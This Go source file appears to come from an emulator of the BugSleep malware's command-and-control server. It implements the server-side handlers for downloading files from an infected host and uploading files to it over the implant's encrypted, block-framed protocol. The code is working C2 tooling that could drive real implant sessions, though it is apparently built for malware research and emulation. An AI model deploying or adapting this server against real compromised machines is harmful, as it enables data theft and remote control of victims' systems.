package server

import (
	"bugsleep_c2emu/constants"
	"bugsleep_c2emu/fileio"
	"bugsleep_c2emu/networking"
	"bugsleep_c2emu/server/worker"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math"
)

// download handles command 0x0, pulling a file from the infected host
func (h *Handler) download() error {
	h.log.Debug("Exec logic for hex 0x0 (Download file from remote host)")

	meta, err := networking.ReadTransferMetadata(h.conn, h.crypto.Increment())
	if err != nil {
		return fmt.Errorf("download metadata: %w", err)
	}
	h.log.Debugf("[Phase 4] Metadata values %d and %d", meta.BlockCountField1, meta.BlockCountField2)
	h.log.Debugf("[Phase 4] Total number of 1KB blocks: %d, size of the last block: %d bytes",
		meta.TotalBlocks, meta.LastBlockSize)

	total := meta.TotalSize()
	if total == math.MaxUint64 {
		h.log.Warnf("[Phase 4] Announced size overflows, reading until the implant closes")
	}
	h.log.Infof("[Phase 5] Receiving file content of %d bytes", total)

	var writer fileio.FileWriter = new(fileio.CaptureWriter)
	if err := writer.New(h.cfg.OutputFolder, constants.CAPTURE_WRITE_QUEUE); err != nil {
		return fmt.Errorf("%w: %v", networking.ErrTransferAborted, err)
	}
	stream, done := writer.StartWriting()

	bar := h.newProgress(clampInt64(total))
	received, recvErr := h.receiveContent(stream, total, bar)
	if recvErr != nil {
		writer.Abort()
	}
	close(stream)
	res := <-done
	bar.Finish()

	if recvErr != nil {
		return fmt.Errorf("%w: after %d of %d bytes: %v", networking.ErrTransferAborted, received, total, recvErr)
	}
	if res.Err != nil {
		return fmt.Errorf("%w: %v", networking.ErrTransferAborted, res.Err)
	}
	if received < total {
		h.log.Warnf("[Phase 5] Implant closed early, keeping %d of %d bytes", received, total)
	}

	h.log.Infof("SHA-1 hash of the file content: %s", hex.EncodeToString(res.Digest))
	h.log.Infof("[Phase 5] File content saved to %s", res.Path)
	return nil
}

// receiveContent streams decrypted content to the capture writer. Stops at
// total or when the implant hangs up, whichever comes first.
func (h *Handler) receiveContent(stream chan<- []byte, total uint64, bar progress) (uint64, error) {
	var received uint64
	buffer := make([]byte, constants.DOWNLOAD_RECV_SIZE)

	for received < total {
		want := min(uint64(len(buffer)), total-received)
		read, err := h.conn.Read(buffer[:want])
		if read > 0 {
			plain := h.crypto.Decrypt(buffer[:read])
			h.dump(4, "Received data", plain)
			stream <- plain
			received += uint64(read)
			bar.Add(read)
		}
		if errors.Is(err, io.EOF) {
			return received, nil
		}
		if err != nil {
			return received, err
		}
	}

	return received, nil
}

// upload handles command 0x1, pushing a local file to the infected host
func (h *Handler) upload() error {
	h.log.Debug("Exec logic for hex 0x1 (Upload file to remote host)")
	inc := h.crypto.Increment()

	pre, err := networking.ReadUploadPreamble(h.conn, inc)
	if err != nil {
		return fmt.Errorf("upload preamble: %w", err)
	}
	h.log.Debugf("[Phase 4] Preamble values %d and %d", pre.Field1, pre.Field2)

	content, err := fileio.ReadSource(h.cfg.SourceFile)
	if err != nil {
		return fmt.Errorf("%w: %v", networking.ErrTransferAborted, err)
	}

	part := networking.PartitionBlocks(len(content))
	h.log.Infof("File size: %d bytes, Full blocks: %d, Last block size: %d bytes",
		part.FileSize, part.FullBlocks, part.LastBlockSize)

	// Block count and padded last block size go out as two messages.
	layout := part.Layout()
	for _, field := range []uint32{layout.TotalBlocks, layout.LastBlockSize} {
		if _, err := h.conn.Write(networking.EncodeUint32(field, inc)); err != nil {
			return fmt.Errorf("%w: send layout: %v", networking.ErrTransferAborted, err)
		}
	}

	chunks := networking.SplitChunks(content)
	bar := h.newProgress(int64(part.FileSize + len(chunks)*constants.CHUNK_INDEX_SIZE + constants.LAST_BLOCK_PADDING))

	proc := new(worker.ChunkProcessor)
	defer proc.Stop()

	sent := 0
	for raw := range proc.Start(chunks, h.cfg.Workers, h.crypto) {
		if _, err := h.conn.Write(raw); err != nil {
			bar.Finish()
			return fmt.Errorf("%w: block %d of %d: %v", networking.ErrTransferAborted, sent, len(chunks), err)
		}
		sent++
		bar.Add(len(raw))
		if h.cfg.Verbosity >= 5 {
			h.log.Tracef("Sent block %d/%d", sent, len(chunks))
		}
	}
	bar.Finish()

	if err := proc.Err(); err != nil {
		return fmt.Errorf("%w: %v", networking.ErrTransferAborted, err)
	}

	h.log.Infof("File transmission completed. Total bytes sent: %d", part.FileSize+constants.LAST_BLOCK_PADDING)
	return nil
}

// clampInt64 converts a wire size for the progress bar
func clampInt64(v uint64) int64 {
	if v > math.MaxInt64 {
		return math.MaxInt64
	}
	return int64(v)
}
